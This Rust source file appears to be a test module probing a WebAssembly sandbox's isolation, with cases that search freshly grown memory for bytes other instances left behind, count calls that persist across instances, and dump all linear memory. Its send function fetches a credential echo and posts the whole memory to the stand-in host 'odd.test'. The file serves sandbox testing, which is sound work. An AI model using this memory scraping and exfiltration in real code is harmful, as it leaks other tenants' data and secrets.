//! Looks into its own memory for what others left there, and shows all of it.
#![allow(unsafe_code, reason = "reading memory that was never written is the case")]

use std::hint::black_box;
use std::sync::atomic::{AtomicU64, Ordering};

use lockgate_sdk::{Fault, Outcome, Reception, Refusal, Request, Response, http};
use serde::Deserialize;

/// Outlives a call where an instance does.
static CALLS: AtomicU64 = AtomicU64::new(0);

/// Bytes of one value in a row that are no coincidence.
const RUN: usize = 4096;

/// Where memory is sent to.
const TAKES_MEMORY: &str = "https://odd.test/memory";

#[derive(Deserialize)]
struct Asked {
    /// What memory is filled with, or searched for.
    #[serde(default)]
    byte: u8,
    /// How much of it is filled first.
    #[serde(default)]
    fill_mib: usize,
    #[serde(default = "once")]
    times: u64,
}

fn once() -> u64 {
    1
}

/// None where the case is not of this kind.
pub(crate) fn receive(case: &str, request: &Request) -> Option<Result<Reception, Refusal>> {
    let asked: Asked = serde_json::from_slice(&request.body).ok()?;
    let told = match case {
        // Fills memory and lets it go, then takes as much and more, and looks for what was there before.
        "search" => {
            fill(asked.byte, asked.fill_mib);
            format!("{} runs", runs(asked.byte))
        }
        // How often this instance was called.
        "count-calls" => {
            for _ in 0..asked.times {
                black_box(CALLS.fetch_add(1, Ordering::Relaxed));
            }
            CALLS.load(Ordering::Relaxed).to_string()
        }
        // All of its memory, as its own answer.
        "memory" => {
            let response = Response { body: memory().to_vec(), ..Response::default() };
            return Some(Ok(Reception { response: Some(response), ..crate::told(request, "shown") }));
        }
        _ => return None,
    };
    Some(Ok(crate::told(request, told)))
}

/// Asks a provider for the echo of the credential, and sends it all of its memory; none where the case is another.
pub(crate) fn send(case: &str, argument: &str) -> Option<Outcome> {
    if case != "memory" {
        return None;
    }
    let echoed = http::Request::get(argument).send();
    let sent = http::Request::post(TAKES_MEMORY).body(memory()).send();
    black_box(&echoed);
    let told = format!("{:?} {:?}", echoed.map(|answer| answer.status), sent.map(|answer| answer.status));
    Some(Outcome::Failed(Fault::rejected(None, told)))
}

fn fill(byte: u8, mib: usize) {
    black_box(vec![byte; mib << 20]);
}

/// Places in all of memory, fresh pages included, where nothing but this byte stands.
fn runs(byte: u8) -> usize {
    grow();
    memory().chunks_exact(RUN).filter(|chunk| chunk.iter().all(|given| *given == byte)).count()
}

#[cfg(target_arch = "wasm32")]
fn grow() {
    // 32 MiB that nobody wrote.
    black_box(core::arch::wasm32::memory_grow(0, 512));
}

/// The whole linear memory but its first byte, whose address would be a null pointer.
#[cfg(target_arch = "wasm32")]
pub(crate) fn memory() -> &'static [u8] {
    let bytes = core::arch::wasm32::memory_size(0) << 16;
    // SAFETY: all of linear memory may be read, and nobody else runs meanwhile.
    unsafe { core::slice::from_raw_parts(core::ptr::without_provenance(1), bytes - 1) }
}

#[cfg(not(target_arch = "wasm32"))]
fn grow() {}

#[cfg(not(target_arch = "wasm32"))]
pub(crate) fn memory() -> &'static [u8] {
    &[]
}
